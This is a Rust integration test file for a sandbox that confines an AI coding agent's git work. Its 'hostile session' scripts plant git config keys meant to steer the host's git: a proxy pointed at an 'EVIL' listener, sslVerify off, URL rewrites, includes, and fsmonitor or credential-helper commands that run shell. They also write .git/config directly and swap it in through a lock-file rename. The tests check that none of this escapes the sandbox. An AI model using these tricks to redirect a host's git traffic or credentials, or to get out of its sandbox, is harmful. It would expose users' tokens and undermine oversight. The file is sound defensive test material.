//! Everyday git work in the user's own repository (issue #44): what an
//! agent runs all day with git works inside — identity, remotes, `push -u`,
//! tracking branches, submodules, sparse checkout, `git config --global`
//! (a file of the session's own, never the host's) — as root and as an
//! unprivileged user, while what would steer host git (a proxy with TLS
//! verification off, a URL rewrite, an include, extra headers, a command)
//! set inside, in the workspace's repository, a nested one and one made
//! during the session, never reaches host git: a listener standing where
//! the session pointed host git hears nothing. With the git rule off (the
//! test mutation `no-git-rule`) the same session does steer host git there.
//! A hook and `core.hooksPath` installed inside are held (the install
//! succeeds, the hook runs inside), listed by `review`, and reach host git
//! only through `review --apply`. Real bubblewrap.

mod common;
use common::*;

const BIN: &str = "/usr/libexec/claude-sandbox/claude-sandbox";

/// The workspace is the user's clone: a commit, an `origin` (a bare copy in
/// the workspace, so pushes land inside), a repository to add as a
/// submodule, two directories for a sparse checkout.
const CLONE_SETUP: &str = r#"
set -e
g() { git -c user.name=t -c user.email=t@t -c init.defaultBranch=main "$@"; }
g init -q .
printf 'origin.git/\nsub.git/\n' >> .git/info/exclude
mkdir d1 d2 && echo 1 > d1/f && echo 2 > d2/f && g add d1 d2 && g commit -qm init
g clone -q --bare . origin.git && g clone -q --bare . sub.git
g remote add origin "$PWD/origin.git" && g fetch -q origin && g branch -q -u origin/main main
echo ok
"#;

/// The rows of the issue's table that this repository's rule now lets
/// through, each `OK name` or `FAIL name: output`.
const EVERYDAY: &str = r#"
export GIT_AUTHOR_NAME=Dev GIT_AUTHOR_EMAIL=dev@example.com
export GIT_COMMITTER_NAME=Dev GIT_COMMITTER_EMAIL=dev@example.com
row() { if out=$(eval "$2" 2>&1); then echo "OK $1"; else echo "FAIL $1: $out"; fi; }
row config-email 'git config user.email agent@example.com'
row remote-add 'git remote add upstream https://github.com/o/r.git'
row push-u 'git checkout -q -b feat && echo f > f && git add f && git commit -qm f && git push -q -u origin feat && test "$(git rev-parse --abbrev-ref @{u})" = origin/feat'
row track 'git checkout -q -b feat2 origin/feat && test "$(git rev-parse --abbrev-ref @{u})" = origin/feat'
row submodule 'git -c protocol.file.allow=always submodule add -q "$PWD/sub.git" sm && git commit -qm sm'
row sparse 'git sparse-checkout set d1 && test -e d1/f && test ! -e d2/f'
row global 'git config --global alias.lg "log --oneline" && git lg >/dev/null && git config --show-origin init.defaultBranch | grep -q /etc/claude-gitconfig'
echo END
"#;

#[test]
fn everyday_git_work_in_the_users_own_repository_works_inside() {
    if !require("gitwork_everyday") {
        return;
    }
    let w = World::with_probe("gitwork");
    for who in BOTH {
        let o = w.run(who, &[], &["sh", "-c", CLONE_SETUP]);
        assert!(stdout(&o).contains("ok"), "{who:?}: {}", stderr(&o));
        let o = w.run(who, &[], &["claude", "shell", EVERYDAY]);
        let out = stdout(&o);
        assert!(out.contains("END"), "{who:?}: {out}\n{}", stderr(&o));
        let failed: Vec<&str> = out.lines().filter(|l| l.starts_with("FAIL")).collect();
        assert!(failed.is_empty(), "{who:?}: {failed:#?}\n{}", stderr(&o));
        assert_eq!(out.matches("OK ").count(), 7, "{who:?}: {out}");
        // What host git sees afterwards.
        let host = stdout(&w.run(
            who,
            &[],
            &[
                "sh",
                "-c",
                "git config user.email; git config remote.upstream.url; \
                 git rev-parse --abbrev-ref feat@{u} feat2@{u}; \
                 git config --file .gitmodules submodule.sm.url | sed 's#.*/##'; \
                 git config core.sparseCheckout; \
                 test -e ~/.gitconfig || echo no-host-global",
            ],
        ));
        assert_eq!(
            host,
            "agent@example.com\nhttps://github.com/o/r.git\norigin/feat\norigin/feat\nsub.git\ntrue\nno-host-global\n",
            "{who:?}"
        );
        empty_dir(&w.workspace(who));
    }
}

/// Set up outside: the workspace's repository and a nested one, each with
/// an `origin` at a forge on loopback (`FORGE`, nothing listening: the
/// fetch fails, what matters is where it goes), and the two ports in
/// `ports` for the session (the sandbox passes no such variable in).
const STEER_SETUP: &str = r#"
set -e
g() { git -c user.name=t -c user.email=t@t -c init.defaultBranch=main "$@"; }
for r in . nested; do
  mkdir -p "$r" && g init -q "$r" && g -C "$r" commit -q --allow-empty -m init
  g -C "$r" remote add origin "https://127.0.0.1:$FORGE/o/r.git"
done
echo "$FORGE $EVIL" > ports
echo ok
"#;

/// The hostile session: every spelling of every key class, in the
/// workspace's repository, the nested one and one it makes. `PLANTED` when
/// the call succeeded.
const STEER: &str = r#"
M="$PWD"
read FORGE EVIL < ports
# A call may now succeed with the key held (issue #44): what counts is
# whether the repository's own config file took it.
t() { eval "$2" >/dev/null 2>&1; if git config --file "$r/.git/config" --list 2>/dev/null | grep -qiE 'proxy|sslverify|insteadof|extraheader|include|fsmonitor|helper'; then echo "PLANTED $1"; else echo "kept-out $1"; fi; }
git init -q -b main made && git -C made remote add origin "https://127.0.0.1:$FORGE/o/r.git" || echo NO-INIT
printf '[http]\n\tproxy = http://127.0.0.1:%s\n\tsslVerify = false\n' "$EVIL" > evil.gitconfig
for r in . nested made; do
  n=$(basename "$(cd "$r" && pwd)")
  t "$n proxy" 'git -C "$r" config http.proxy "http://127.0.0.1:$EVIL"'
  t "$n proxy-case" 'git -C "$r" config HTTP.Proxy "http://127.0.0.1:$EVIL"'
  t "$n proxy-url" 'git -C "$r" config "http.https://127.0.0.1:$FORGE/.proxy" "http://127.0.0.1:$EVIL"'
  t "$n sslverify" 'git -C "$r" config http.sslVerify false'
  t "$n remote-proxy" 'git -C "$r" config remote.origin.proxy "http://127.0.0.1:$EVIL"'
  t "$n insteadof" 'git -C "$r" config "url.https://127.0.0.1:$EVIL/.insteadOf" "https://127.0.0.1:$FORGE/"'
  t "$n header" 'git -C "$r" config http.extraHeader "X-Planted: 1"'
  t "$n include" 'git -C "$r" config include.path "$M/evil.gitconfig"'
  t "$n includeif" 'git -C "$r" config "includeIf.gitdir:/.path" "$M/evil.gitconfig"'
  t "$n fsmonitor" 'git -C "$r" config core.fsmonitor "touch $M/RAN-fsm-$n"'
  t "$n helper" 'git -C "$r" config credential.helper "!touch $M/RAN-cred-$n"'
  t "$n append" 'printf "[http]\n\tproxy = http://127.0.0.1:%s\n" "$EVIL" >> "$r/.git/config"'
  t "$n lock-rename" 'cp "$r/.git/config" "$r/c.lock" && cat evil.gitconfig >> "$r/c.lock" && mv "$r/c.lock" "$r/.git/config"'
done
echo END
"#;

/// Host git where the session was: fetch (the user's credential helper
/// would answer a 401) and status, with a listener on `EVIL` recording
/// every connection. Prints `HEARD …` per connection and the `RAN-*`
/// markers.
const HOST_FETCH: &str = r#"
L=$(mktemp -d)
python3 - "$EVIL" "$L/heard" <<'PY' &
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(64)
open(sys.argv[2] + ".up", "w").close()
while True:
    c, _ = s.accept(); c.settimeout(2)
    try: d = c.recv(200)
    except Exception: d = b""
    with open(sys.argv[2], "ab") as f: f.write(b"HEARD " + d.split(b"\r\n")[0][:80] + b"\n")
    c.close()
PY
LP=$!
i=0; while [ ! -e "$L/heard.up" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
[ -e "$L/heard.up" ] || echo NO-LISTENER
for r in . nested made; do
  [ -d "$r/.git" ] || continue
  e=$(timeout 20 git -C "$r" -c 'credential.helper=!f() { echo username=u; echo password=REALTOKEN; }; f' fetch -q origin 2>&1 | tail -1)
  echo "FETCH $r: $e"
  timeout 20 git -C "$r" status >/dev/null 2>&1
done
kill $LP; wait $LP 2>/dev/null
cat "$L/heard" 2>/dev/null; rm -rf "$L"
ls RAN-* 2>/dev/null
echo HOST-DONE
"#;

/// The session, then host git: (the session's lines, host git's lines).
fn steer(w: &World, who: Who, env: &[(&str, &str)]) -> (String, String) {
    let (forge, evil) = (
        free_loopback_port().to_string(),
        free_loopback_port().to_string(),
    );
    let ports = [("FORGE", forge.as_str()), ("EVIL", evil.as_str())];
    let o = w.run(who, &ports, &["sh", "-c", STEER_SETUP]);
    assert!(stdout(&o).contains("ok"), "{who:?}: {}", stderr(&o));
    let o = w.run(who, env, &["claude", "shell", STEER]);
    let out = stdout(&o);
    assert!(out.contains("END"), "{who:?}: {out}\n{}", stderr(&o));
    assert!(!out.contains("NO-INIT"), "{who:?}: {out}");
    let host = stdout(&w.run(who, &ports, &["sh", "-c", HOST_FETCH]));
    assert!(
        host.contains("HOST-DONE") && !host.contains("NO-LISTENER"),
        "{who:?}: {host}"
    );
    (out, host)
}

#[test]
fn keys_that_steer_host_git_set_inside_never_reach_it() {
    if !require("gitwork_steer") {
        return;
    }
    let w = World::with_probe("gitwork-steer");
    for who in BOTH {
        let (out, host) = steer(&w, who, &[]);
        let planted: Vec<&str> = out.lines().filter(|l| l.starts_with("PLANTED")).collect();
        assert!(planted.is_empty(), "{who:?}: {planted:#?}");
        assert_eq!(out.matches("kept-out ").count(), 39, "{who:?}: {out}");
        // What the session set is held for the user, not dropped.
        let review = stdout(&w.run(who, &[], &[BIN, "review"]));
        for key in [
            "http.proxy",
            "core.fsmonitor",
            "credential.helper",
            "include.path",
        ] {
            assert!(review.contains(key), "{who:?}: {key} not held: {review}");
        }
        assert!(
            !host.contains("HEARD"),
            "{who:?}: host git went to the session's listener: {host}"
        );
        assert!(!host.contains("RAN-"), "{who:?}: host git ran: {host}");
        empty_dir(&w.workspace(who));
    }
}

#[test]
fn without_the_rule_the_same_keys_steer_host_git() {
    if !require("gitwork_steer_mutation") {
        return;
    }
    // Behind the wall: without the rule the same keys land in all three
    // repositories, and host git goes where they say.
    let m = World::new("gitwork-steer-mut");
    m.use_mutation_binary();
    m.install_by_hand(&m.root.join("bin/probe"), "egress-jail = 0\n");
    let (out, host) = steer(
        &m,
        Who::Root,
        &[("CLAUDE_SANDBOX_TEST_MUTATION", "no-git-rule")],
    );
    for n in ["root proxy", "nested proxy", "made proxy"] {
        assert!(out.contains(&format!("PLANTED {n}")), "{n}: {out}");
    }
    assert!(
        host.contains("HEARD"),
        "control: nothing reached the listener: {host}"
    );
    for n in ["root", "nested", "made"] {
        assert!(
            host.contains(&format!("RAN-fsm-{n}")),
            "control {n}: {host}"
        );
    }
}

/// Inside: install a hook as pre-commit does (write, then chmod), set
/// husky's `core.hooksPath`, commit (the held hook runs, inside), and show
/// what the agent was told.
const HOLD: &str = r##"
export GIT_AUTHOR_NAME=Dev GIT_AUTHOR_EMAIL=dev@example.com
export GIT_COMMITTER_NAME=Dev GIT_COMMITTER_EMAIL=dev@example.com
row() { if out=$(eval "$2" 2>&1); then echo "OK $1"; else echo "FAIL $1: $out"; fi; }
row hook 'printf "#!/bin/sh\necho HOOK-RAN >> ran\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
row hookspath 'git config core.hooksPath .husky/_'
row runs-inside 'git commit -q --allow-empty -m inside && test "$(cat ran)" = HOOK-RAN'
# The hostile session: move the copy away, link out of it, leave a symlink.
row no-move '! mv .git/hooks .git/h2 2>/dev/null && test -d .git/hooks'
row no-link '! ln .git/hooks/pre-commit .git/pc 2>/dev/null && test ! -e .git/pc'
ln -s /bin/true .git/hooks/post-merge
cat /run/claude-sandbox/notices
echo END
"##;

#[test]
fn a_hook_and_hooks_path_set_inside_are_held_and_applied_only_by_review() {
    if !require("gitwork_held") {
        return;
    }
    let w = World::with_probe("gitwork-held");
    for who in BOTH {
        let o = w.run(who, &[], &["sh", "-c", CLONE_SETUP]);
        assert!(stdout(&o).contains("ok"), "{who:?}: {}", stderr(&o));
        let o = w.run(who, &[], &["claude", "shell", HOLD]);
        let out = stdout(&o);
        assert!(out.contains("END"), "{who:?}: {out}\n{}", stderr(&o));
        assert!(!out.contains("FAIL"), "{who:?}: {out}\n{}", stderr(&o));
        assert!(
            out.contains("held for the user") && out.contains("core.hookspath"),
            "{who:?}: the agent was not told: {out}"
        );
        assert!(
            stderr(&o).contains("held for you"),
            "{who:?}: the user was not told: {}",
            stderr(&o)
        );
        assert!(
            stderr(&o).contains("hooks/post-merge in place of a git hook, not a plain file (of at most 1 MiB): not kept"),
            "{who:?}: {}",
            stderr(&o)
        );
        assert!(
            !w.workspace(who).join(".git/hooks/post-merge").exists(),
            "{who:?}"
        );
        // Host git: neither is there, and a commit runs nothing.
        let host = "test -e .git/hooks/pre-commit && echo HOOK-THERE; \
                    git config core.hooksPath || echo no-hookspath; \
                    git -c user.name=u -c user.email=u@u commit -q --allow-empty -m host; cat ran";
        assert_eq!(
            stdout(&w.run(who, &[], &["sh", "-c", host])),
            "no-hookspath\nHOOK-RAN\n",
            "{who:?}"
        );
        let o = w.run(who, &[], &[BIN, "review"]);
        let listed = stdout(&o);
        assert_eq!(o.status.code(), Some(1), "{who:?}: {listed}");
        assert!(
            listed.contains("echo HOOK-RAN >> ran"),
            "{who:?}: in full: {listed}"
        );
        assert!(
            listed.contains("hookspath = \".husky/_\""),
            "{who:?}: {listed}"
        );
        let id = |kind: &str| {
            let line = listed
                .lines()
                .find(|l| l.starts_with('[') && l.contains(kind));
            line.and_then(|l| l.get(1..9))
                .unwrap_or_default()
                .to_string()
        };
        let (hook, key) = (id("] hook"), id("] git config"));
        let o = w.run(who, &[], &[BIN, "review", "--apply", &hook]);
        assert_eq!(o.status.code(), Some(0), "{who:?}: {}", stderr(&o));
        // Now host git runs it.
        assert_eq!(
            stdout(&w.run(who, &[], &["sh", "-c", host])),
            "HOOK-THERE\nno-hookspath\nHOOK-RAN\nHOOK-RAN\n",
            "{who:?}"
        );
        let o = w.run(who, &[], &[BIN, "review", "--apply", &key]);
        assert_eq!(o.status.code(), Some(0), "{who:?}: {}", stderr(&o));
        let o = w.run(who, &[], &["git", "config", "core.hooksPath"]);
        assert_eq!(stdout(&o), ".husky/_\n", "{who:?}");
        // Applied once: nothing is left, and the same ID is not applied twice.
        assert_eq!(w.run(who, &[], &[BIN, "review"]).status.code(), Some(0));
        let o = w.run(who, &[], &[BIN, "review", "--apply", &hook]);
        assert_eq!(o.status.code(), Some(1), "{who:?}");
        empty_dir(&w.workspace(who));
    }
}

/// Inside: a repository copied whole (`cp -r`, whatever order its files
/// come in), copied with its `HEAD` first, and one whose copied config
/// plants what host git would run.
const COPY: &str = r##"
row() { if out=$(eval "$2" 2>&1); then echo "OK $1"; else echo "FAIL $1: $out"; fi; }
head_first() { mkdir -p "$1/.git" && cp lib0/.git/HEAD "$1/.git/" && cp -r lib0/.git/objects lib0/.git/refs "$1/.git/"; }
row cp-r 'cp -r lib0 lib0-copy && git -C lib0-copy log --oneline >/dev/null'
row head-first 'head_first c1 && cp lib0/.git/config c1/.git/config && git -C c1 log --oneline >/dev/null'
row planted 'head_first c2 && printf "[core]\n\tfsmonitor = touch MARK\n" > c2/.git/config && git -C c2 log --oneline >/dev/null'
echo END
"##;

#[test]
fn a_repository_copied_file_by_file_works_and_its_config_comes_at_the_end() {
    if !require("gitwork_copy") {
        return;
    }
    let w = World::with_probe("gitwork-copy");
    for who in BOTH {
        let setup = "set -e; git init -q -b main lib0 && git -C lib0 -c user.name=t -c user.email=t@t \
                     commit -q --allow-empty -m init && git -C lib0 config user.email me@example.com && echo ok";
        let o = w.run(who, &[], &["sh", "-c", setup]);
        assert!(stdout(&o).contains("ok"), "{who:?}: {}", stderr(&o));
        let o = w.run(who, &[], &["claude", "shell", COPY]);
        let (out, err) = (stdout(&o), stderr(&o));
        assert!(
            out.contains("END") && !out.contains("FAIL"),
            "{who:?}: {out}\n{err}"
        );
        let ws = w.workspace(who);
        let original = std::fs::read_to_string(ws.join("lib0/.git/config")).unwrap();
        for copy in ["lib0-copy", "c1"] {
            let placed = std::fs::read_to_string(ws.join(copy).join(".git/config"));
            assert_eq!(
                placed.ok().as_deref(),
                Some(original.as_str()),
                "{who:?}: {copy}\n{err}"
            );
        }
        assert!(
            !ws.join("c2/.git/config").exists(),
            "{who:?}: the planted config was put in place"
        );
        assert!(
            err.contains(&format!(
                "not put in place: {}",
                ws.join("c2/.git/config").display()
            )),
            "{who:?}: {err}"
        );
        assert!(
            err.contains("put in place at the session's end"),
            "{who:?}: {err}"
        );
        // Host git in the copies runs nothing and works.
        let o = w.run(
            who,
            &[],
            &[
                "sh",
                "-c",
                "git -C c1 log --oneline && git -C c2 status -s; ls MARK c2/MARK 2>&1",
            ],
        );
        assert_eq!(
            stdout(&o).matches("No such file").count(),
            2,
            "{who:?}: {}",
            stdout(&o)
        );
        empty_dir(&ws);
    }
}
